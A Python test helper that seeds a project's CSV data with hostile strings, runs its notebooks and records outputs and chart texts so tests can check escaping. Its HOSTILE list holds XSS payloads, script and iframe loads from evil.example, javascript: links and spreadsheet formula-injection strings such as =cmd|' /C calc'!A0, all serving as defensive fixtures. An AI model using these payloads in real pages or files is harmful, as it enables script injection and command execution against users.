"""Hostile text in every text column of every data file, and every page's outputs made
from it (for tests/test_hostile_text.py).

:func:`make_hostile_data` copies data/ and puts the cases of :data:`HOSTILE` in every
cell of the columns a reader is shown (:func:`shown_columns`): each cell becomes a few
cases, then the cell's own text (:func:`case_plan`: every cell holds one that makes live
HTML if written unescaped, every column holds every case, each case comes first in some
cell of every column of twenty texts or more, a chart's title holds every case). Two
cases a cell, not four (~65 characters, not ~120): every chart that wraps or fits its
texts measures them again and again (a legend is narrowed a character at a time): the
run below took ~14-15 s of CPU with four cases a cell, ~12 s with two, ~11 s on the
real data.

Run as a script (``python tests/helpers_hostile.py OUT``, with ``DBANALYSIS_DATA``
pointing at such a copy; under ``make test`` forked from the session's kernel zygote,
``conftest.hostile_run``) it executes the code cells of every notebook in one process
(as the build's kernels do, without their start-up), keeping each output as
``bilingual`` publishes it, and writes ``OUT/outputs.json`` (every output, with its
notebook), ``OUT/charts.json`` (every text each chart draws, and its PNG's text chunks:
each chart is drawn whole, without rasterising its pixels) and, for the pages opened
in Chromium (:data:`PAGES`), ``OUT/notebooks/<page>.ipynb`` with its outputs.
A separate process: the notebooks set matplotlib's and pandas' global options.

Each chart is drawn in both languages, in its wide layout, and in its phone layout
(``bilingual.show`` draws it again under :func:`dbanalysis.plotting.style.narrow`) for
the charts of :data:`PHONE` and :data:`PHONE_EXTRA` only: between them they take every
branch the chart code takes only on a phone (each ``is_narrow()`` answering True:
a text wrapped at the phone's width, a questioned note moved into a row's name, a range
put on a line of its own, a panel title left unwrapped), each recorded in
``OUT/phone_branches.json`` and checked by
``test_hostile_text.test_every_phone_only_branch_draws_hostile_text``. The other
charts' phone layouts are the same functions through the same branches on other data
texts; not drawing them saves most of the run's phone work. The phone pipeline itself
is also drawn on every case, pixels and all, by
``test_hostile_text.test_png_of_hostile_text[narrow]``.
"""

from __future__ import annotations

import base64
import csv
import functools
import io
import json
import shutil
import sys
import zlib
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]

#: What an attacker or a careless editor puts in a data file. Each case carries its own
#: marker (``alert(N)``, a host name) so that what it became can be told apart.
HOSTILE = (
    "<img src=x onerror=alert(7)>",
    "<script src=https://evil.example/x.js></script>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/i.png)",
    "$\\frac{a}{$",
    "=cmd|' /C calc'!A0",
    "<svg onload=alert(2)>",
    '<a href="javascript:alert(3)">a</a>',
    "<iframe src=https://evil.example/f></iframe>",
    "[y](https://evil.example/l)",
    "<b onmouseover=alert(4)>b</b>",
    '" onfocus="alert(5)" x="',
    "<style>@import url(https://evil.example/s.css)</style>",
    "&lt;img src=x onerror=alert(6)&gt;",
    "<<img src=y onerror=alert(8)>>",
    "[z]: https://evil.example/ref",
    "<https://evil.example/auto>",
    "javascript:alert(9)",
    "+cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A2",
)

#: String columns without a key, pattern or list of values that a reader is not shown,
#: or that must hold something else than free text.
NOT_TEXT = {
    ("figures", "quote"): "words found in the report (the catalogue refuses others)",
    ("coverage_exclusions", "context"): "words found in the report",
    ("corrections", "corrected_value_formula"): "a formula over figure ids",
    ("findings", "figure_ids"): "figure ids",
    ("reference", "used_by"): "ids of derived figures and checks",
    ("i18n/vi", "en"): "the English text translated (rewritten with it, not apart)",
    ("vocab/units", "dimension"): "an id of a kind of quantity used by the code",
    ("vocab/labels", "used_in"): "a note for editors",
    ("vocab/glossary", "deprecated_vi"): "forms not to use (read by a test, never shown)",
    ("derived", "formula"): "a formula template over the rule's roles",
    ("derived", "unit"): "a unit id, or a role whose unit the figure takes",
    ("derived", "label"): "a key of vocab/labels.csv (the label's template)",
    ("derived", "assumption"): "a key of vocab/labels.csv (the assumption's template)",
}


def data_files() -> dict[str, Path]:
    """Every data file with a schema: ``figures``, ``vocab/labels``, ``i18n/vi``, …"""
    from dbanalysis.core import paths, schema

    root = paths.data_dir()
    return {n.removeprefix("input/"): root / (n.removeprefix("input/") + ".csv")
            for n in schema.names() if n.startswith("input/")}


def string_columns() -> list[tuple[str, str]]:
    """Every free-text column of every data file: a string without a key, a pattern or a
    list of values (its schema says so)."""
    from dbanalysis.core import schema

    out = []
    for name in data_files():
        spec = schema.load(f"input/{name}")
        keys = set(spec.primary_key) | {f for fk in spec.foreign_keys for f in fk.fields}
        out += [(name, f.name) for f in spec.fields
                if f.type == "string" and f.name not in keys
                and not {"pattern", "enum"} & set(f.constraints)]
    return out


def shown_columns() -> list[tuple[str, str]]:
    return [c for c in string_columns() if c not in NOT_TEXT]


#: Columns whose cells are templates (``{name}`` fields): a brace of data text is doubled
#: there, as an editor writes one, so that the text shown is the case as written.
TEMPLATES = {("vocab/labels", "en"), ("vocab/labels", "vi"), ("findings", "template_en"),
             ("findings", "template_vi"), ("templates/audit", "text"),
             ("templates/knowledge", "text"), ("templates/derived", "en"),
             ("templates/derived", "vi"), ("figures", "note"), ("corrections", "reason")}


def _template(name: str, column: str, row: list[str], header: list[str]) -> bool:
    """Whether a cell is a template: a column of :data:`TEMPLATES`, or the translation (and
    the English it is of) of a figure's note or a correction's reason in i18n/vi.csv."""
    if (name, column) in TEMPLATES:
        return True
    return name == "i18n/vi" and column in ("en", "vi") and \
        (row[header.index("table")], row[header.index("field")]) in (
            ("figures", "note"), ("corrections", "reason"))


#: Cases a cell holds: at least :data:`MIN_PER_CELL` (one of them an HTML case), at most
#: this (a column of fewer texts than it takes to hold every case otherwise).
PER_CELL = 4
MIN_PER_CELL = 2

#: The cases that make a live element, handler or request where HTML is written
#: unescaped (the others: Markdown, mathtext, spreadsheet formulas, a pre-escaped entity,
#: a bare ``javascript:`` address).
LIVE_HTML = frozenset(HOSTILE[i] for i in (0, 1, 6, 7, 8, 10, 11, 12, 14))

#: The order the cases are handed out in (:data:`HOSTILE`'s indices), round: a cell takes
#: a run of it. Every other case an HTML one, two of them (1 and 7) twice, so that every
#: other case sits between two HTML ones and begins one run of two that holds an HTML
#: case and ends another: nine HTML cases for eleven others left two pairs of others
#: between two HTML ones, and the first of each pair (the one mathtext case and the
#: Markdown ``javascript:`` link) reached 77 and 81 of the 2,324 texts, the others
#: 276-300 (REREAD-0620B F3); now 235-261, the two doubled HTML cases ~420, the payloads
#: as long (2.29 cases, 70.5 characters a text on average, 70.8 before). The Markdown
#: cases spread among the others. Short columns: :data:`TILING` (:func:`_plan_runs`).
ORDER = (0, 2, 1, 5, 6, 4, 7, 3, 8, 13, 10, 9, 11, 17, 12, 15, 14, 18, 1, 16, 7, 19)
#: Every case once (the order before, two pairs of others between two HTML cases): runs
#: of it for a column whose runs of :data:`PER_CELL` must hold every case (five runs of
#: four cover twenty cases only without a case twice) and for a chart's title.
TILING = (0, 2, 5, 1, 4, 3, 6, 13, 7, 9, 8, 17, 10, 15, 11, 18, 12, 16, 14, 19)


def payload(original: str, template: bool = False) -> str:
    """The cases :func:`case_plan` gives the cell's text, then the text (the same text
    gets the same payload in every file: an English note and its row in i18n/vi.csv stay
    one text); braces doubled in a template."""
    cases = " ".join(HOSTILE[i] for i in cases_of(original))
    if template:
        cases = cases.replace("{", "{{").replace("}", "}}")
    return f"{cases} {original}" if original else cases


def cases_of(original: str) -> tuple[int, ...]:
    """The cases (indices in :data:`HOSTILE`) a cell's text gets, from :func:`case_plan`
    (a text of no shown column, or an empty note: a run of :data:`MIN_PER_CELL` picked
    by its text)."""
    found = case_plan().get(original)
    if found is None:
        starts = _starts(MIN_PER_CELL)
        found = _run(starts[zlib.crc32(original.encode()) % len(starts)], MIN_PER_CELL)
    return found


def _run(start: int, count: int, shift: int = 0,
         order: tuple[int, ...] = ORDER) -> tuple[int, ...]:
    """``count`` cases of ``order`` (:data:`ORDER`) from ``start`` on, the first ``shift``
    of them put last."""
    run = [order[(start + i) % len(order)] for i in range(count)]
    return tuple(run[shift:] + run[:shift])


@functools.cache
def _starts(count: int, order: tuple[int, ...] = ORDER) -> list[int]:
    """The places of ``order`` where a run of ``count`` holds an HTML case."""
    return [s for s in range(len(order))
            if any(HOSTILE[i] in LIVE_HTML for i in _run(s, count, 0, order))]


#: The labels that are charts' titles (vocab/labels.csv) hold every case: a chart's title
#: begins its alt text and is its PNG's title (each chart's holds every case, a chart page
#: in Chromium holds every case in its alt text), and is not drawn in the image, so that
#: it costs no layout.
TITLE_KEY = "chart.title."


@functools.cache
def case_plan() -> dict[str, tuple[int, ...]]:
    """The cases (indices in :data:`HOSTILE`) each text of a shown column gets: a run of
    :data:`ORDER`, so that every cell holds an HTML case (:data:`LIVE_HTML`) and at least
    :data:`MIN_PER_CELL` cases, every shown column holds every case (its texts get the
    shortest runs that do, :data:`PER_CELL` at most: a column of fewer than five texts
    holds ``PER_CELL`` a text), and every case comes first in some cell of every column
    of at least twenty texts (a run may begin anywhere in itself).

    Each text gets one payload wherever it is (an English note and its row in
    i18n/vi.csv stay one text): the columns are planned from the fewest texts up, and a
    text planned for one column counts in the others it is in. Short payloads: every
    chart that wraps or fits a text measures it again and again (a legend is narrowed a
    character at a time)."""
    columns = []
    for name, column in shown_columns():
        with open(data_files()[name], encoding="utf-8", newline="") as fh:
            texts = list(dict.fromkeys(r[column] for r in csv.DictReader(fh) if r[column]))
        columns.append((name, column, texts))
    n = len(TILING)
    plan: dict[str, tuple[int, ...]] = {}
    with open(data_files()["vocab/labels"], encoding="utf-8", newline="") as fh:
        for row in csv.DictReader(fh):  # every case in every chart's title (see TITLE_KEY)
            if row["key"].startswith(TITLE_KEY):
                for text in (row["en"], row["vi"]):
                    plan[text] = _run(zlib.crc32(text.encode()) % n, n, 0, TILING)
    for name, column, texts in sorted(columns, key=lambda c: len(c[2])):
        free = [t for t in texts if t not in plan]
        if not free:
            continue
        at = zlib.crc32(f"{name}.{column}".encode())
        planned = [plan[t] for t in texts if t in plan]
        runs = _plan_runs(planned, len(free), at)
        plan.update(zip(free, runs, strict=True))
    return plan


def _plan_runs(planned: list[tuple[int, ...]], free: int, at: int) -> list[tuple[int, ...]]:
    """A column's runs (:func:`_plan_column`): the shortest that hold every case with the
    texts ``planned`` already, of :data:`ORDER`, else of :data:`TILING`, else of both; at
    :data:`PER_CELL`, whichever holds more cases. A column of no more texts than five runs
    of four (it takes :data:`PER_CELL` a text to hold every case) is planned on TILING
    alone, as all were before: its runs tile it, every case once, and a text it shares
    with another such column is a run of TILING there too."""
    def held(runs: list[tuple[int, ...]]) -> int:
        return len({i for run in planned + runs for i in run})

    few = len(planned) + free <= len(HOSTILE) // PER_CELL  # as many runs as tile TILING
    for count in range(MIN_PER_CELL, PER_CELL + 1):
        tried = [_plan_column(planned, free, count, at, orders)
                 for orders in ([(TILING,)] if few else [(ORDER,), (TILING,), (ORDER, TILING)])]
        best = max(tried, key=held)  # ORDER's when both hold as many
        if held(best) == len(HOSTILE) or count == PER_CELL:
            return best
    raise AssertionError("unreachable")


def _plan_column(planned: list[tuple[int, ...]], free: int, count: int, at: int,
                 orders: tuple[tuple[int, ...], ...] = (ORDER,)) -> list[tuple[int, ...]]:
    """Runs of ``count`` for a column's ``free`` texts, beside its ``planned`` ones: each
    the run that adds the most cases the column lacks (next to those it holds), then
    begins with a case that begins none of its cells yet, then with a case it lacked,
    then the next from ``at`` on."""
    held = {i for run in planned for i in run}
    first = {run[0] for run in planned}
    options = [(s, shift, _run(s, count, shift, order), k, order)
               for k, order in enumerate(orders) for s in _starts(count, order)
               for shift in range(count)]
    runs = []
    for _ in range(free):
        start, _shift, run, _k, order = min(options, key=lambda o: (
            -len(set(o[2]) - held),
            o[4][(o[0] - 1) % len(o[4])] not in held,  # packed against what it holds
            o[2][0] in first, o[2][0] in held, o[3], (o[0] - at) % len(o[4]), o[1]))
        runs.append(run)
        held |= set(run)
        first.add(run[0])
        at = (start + count) % len(order)
    return runs


def make_hostile_data(dst: Path) -> Path:
    """A copy of data/ at ``dst`` with :func:`payload` in every shown column."""
    from dbanalysis.core import paths

    shutil.copytree(paths.data_dir(), dst)
    columns: dict[str, set[str]] = {}
    for name, column in shown_columns():
        columns.setdefault(name, set()).add(column)
    columns.setdefault("i18n/vi", set()).add("en")  # the English a translation is of
    for name, cols in columns.items():
        path = dst / f"{name}.csv"
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        header = rows[0]
        for row in rows[1:]:
            for col in cols:
                i = header.index(col)
                if row[i] or (name, col) == ("figures", "note"):  # every figure: a note
                    row[i] = payload(row[i], _template(name, col, row, header))
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows(rows)
        path.write_text(buf.getvalue(), encoding="utf-8")
    return dst


# --------------------------------------------------------------------------- the run

#: The notebooks whose pages are built and opened in Chromium: the method page (the
#: corrections, sector and exclusion tables, the figure and derived tables, sentences)
#: and a chart page (07: a chart with a subtitle and a data table of ten rows, every case
#: in its caption, alt text and rows in both languages; the method page has no chart).
PAGES = ("00-data-and-method.ipynb", "07-health.ipynb")

#: The charts drawn in their phone layout too, as (page, the chart's number on the page,
#: from 1; the others in their wide layout only: see the module's docstring), and one
#: chart drawn after them in its phone layout only (:data:`PHONE_EXTRA`). Between them they
#: take every phone-only branch of the chart code (:func:`phone_branch_sites`;
#: test_hostile_text checks it): 00-at-a-glance change_since_2015 (the assumed-rows
#: rule), 03 level_bars (a range on a line of its own), 04 reading_paths (its legend), 08
#: share_bars_of (a questioned note in the row's name); every one of them wraps at the
#: phone's width (chart_text.wrap, legend_below) and goes through provenance.finish's
#: phone steps. (00-at-a-glance's second chart, plan_achievement, takes none of its own:
#: its phone copy cost ~0.5 s of CPU.)
PHONE = (("00-at-a-glance.ipynb", 1), ("03-budget.ipynb", 1),
         ("04-labour-jobs-poverty.ipynb", 1), ("08-security-defence.ipynb", 1))
#: slope_2015_2019 on a level without a panel title of its own (``chart.panel.<id>``):
#: its derived label as the panel's title, unwrapped on a phone, a branch no page's
#: chart takes (page 01's levels all have one); and its legend in one column.
PHONE_EXTRA = ("slope_2015_2019", ("agri_poultry",))


def phone_branch_sites() -> set[str]:
    """Every place the chart code asks whether it draws the phone layout: each
    ``is_narrow()`` in src/dbanalysis/plotting, as ``module.py:line``."""
    found = set()
    for path in sorted((REPO / "src" / "dbanalysis" / "plotting").glob("*.py")):
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if "is_narrow()" in line and not line.lstrip().startswith("def "):
                found.add(f"{path.name}:{n}")
    return found


def _watch_phone_branches() -> set[str]:
    """Record, as ``module.py:line``, every call of ``style.is_narrow()`` that answers
    True (a phone-only branch taken), from every plotting module (each binds its own
    name of it); the set returned fills as charts are drawn."""
    import importlib
    import pkgutil

    import dbanalysis.plotting as pkg
    from dbanalysis.plotting import style

    reached: set[str] = set()
    original = style.is_narrow

    def is_narrow() -> bool:
        answer = original()
        if answer:
            caller = sys._getframe(1)
            reached.add(f"{Path(caller.f_code.co_filename).name}:{caller.f_lineno}")
        return answer

    for info in pkgutil.iter_modules(pkg.__path__):
        module = importlib.import_module(f"{pkg.__name__}.{info.name}")
        if getattr(module, "is_narrow", None) is original:
            module.is_narrow = is_narrow  # type: ignore[attr-defined]
    return reached


def _save(fig, buf, *, metadata: dict, **_kw) -> None:
    """``Figure.savefig`` of a chart of the run (:func:`run_notebooks`) without its pixels.
    ``png_bytes`` has laid the chart out and measured the box savefig crops to (the layout
    engine, each text laid out and measured by Agg's font machinery, mathtext parsed where
    a text asks for it); then savefig's one draw, every artist, with the renderer's drawing
    calls off (the engine is off while png_bytes saves: no second layout), those of the
    renderer a text with a path effect (a halo) is drawn through included: matplotlib's
    ``draw_without_rendering`` leaves them on, and turned each such text into the outlines
    of its glyphs to be drawn nowhere (155 texts; the draws took ~0.65 s of CPU, now
    ~0.25). A PNG is written by the same encoder with the same text chunks (title, alt
    text, ids). Rasterising and compressing (about 12 s of 30) is the same for any text;
    test_hostile_text checks it on a chart made of every case (test_png_of_hostile_text)."""
    from unittest import mock

    import numpy as np
    from matplotlib.image import imsave
    from matplotlib.patheffects import PathEffectRenderer

    with mock.patch.object(PathEffectRenderer, "draw_text", lambda *_a, **_k: None):
        fig.draw_without_rendering()
    imsave(buf, np.zeros((1, 1, 4), dtype=np.uint8), format="png", metadata=metadata)


def run_notebooks(out: Path) -> None:
    """Execute every notebook's code in this process; write what they show into ``out``."""
    import functools

    import matplotlib

    matplotlib.use("Agg")
    import nbformat
    from IPython.core.interactiveshell import InteractiveShell
    from matplotlib.figure import Figure
    from matplotlib.text import Text

    from dbanalysis import plotting
    from dbanalysis.notebook import bilingual as bi

    InteractiveShell.instance()  # IPython's formatters, as in a kernel
    published: list[tuple[dict, dict]] = []
    bi._publish = lambda data, md: published.append((data, md))  # type: ignore[assignment]
    charts: list[dict] = []
    png_bytes = plotting.png_bytes

    def drawn(fig: Figure) -> bytes:  # what every chart draws and its PNG says
        fig.savefig = functools.partial(_save, fig)  # type: ignore[method-assign]
        data = png_bytes(fig)
        texts = [t for t in fig.findobj(Text) if t.get_text()]
        charts.append({"texts": [t.get_text() for t in texts],
                       "math": [t.get_text() for t in texts if t.get_parse_math()],
                       "png": plotting.png_text(data),
                       "narrow": bool(getattr(fig, "dbanalysis", {}).get("narrow"))})
        return data

    plotting.png_bytes = drawn
    phone_sites = _watch_phone_branches()
    show = bi._show
    page: dict = {"name": "", "charts": 0}

    def phone_of_phone_charts(build, langs) -> None:  # the phone layout of PHONE's only
        from dbanalysis.plotting.style import is_narrow

        number = page["charts"] + 1  # the chart's number on its page, if it is one

        def wide_or_phone(lang: str):  # (editions draws a chart wide, then on a phone)
            if not is_narrow():
                drawing = build(lang)
                page["charts"] = number if isinstance(drawing, Figure) else page["charts"]
                return drawing
            return build(lang) if (page["name"], number) in PHONE else None

        show(wide_or_phone, langs)

    bi._show = phone_of_phone_charts  # type: ignore[assignment]
    outputs = []
    (out / "notebooks").mkdir(parents=True, exist_ok=True)
    for path in sorted((REPO / "notebooks").glob("*.ipynb")):
        nb = nbformat.read(path, as_version=4)
        page.update(name=path.name, charts=0)
        ns: dict = {"__name__": "__main__"}
        for cell in nb.cells:
            if cell.cell_type != "code":
                continue
            start = len(published)
            exec(compile(cell.source, str(path), "exec"), ns)
            shown = [({k: base64.b64encode(v).decode() if isinstance(v, bytes) else v
                       for k, v in data.items()}, md) for data, md in published[start:]]
            outputs += [{"notebook": path.name, "data": data, "metadata": md}
                        for data, md in shown]
            if path.name in PAGES:  # (each output checked by nbformat: these pages only)
                cell.outputs = [nbformat.v4.new_output("display_data", data=data,
                                                       metadata=md) for data, md in shown]
        if path.name in PAGES:
            nbformat.write(nb, out / "notebooks" / path.name)
    chart, ids = PHONE_EXTRA  # its phone layout only (editions as show draws them)
    for drawings in bi.editions(lambda lang: getattr(plotting, chart)(list(ids)),
                                layouts=("phone",)).values():
        drawn(drawings["phone"])
    (out / "outputs.json").write_text(json.dumps(outputs), encoding="utf-8")
    (out / "charts.json").write_text(json.dumps(charts), encoding="utf-8")
    (out / "phone_branches.json").write_text(json.dumps(sorted(phone_sites)),
                                             encoding="utf-8")


if __name__ == "__main__":
    import warnings

    warnings.simplefilter("ignore")  # (its stderr is read when it fails)
    run_notebooks(Path(sys.argv[1]))
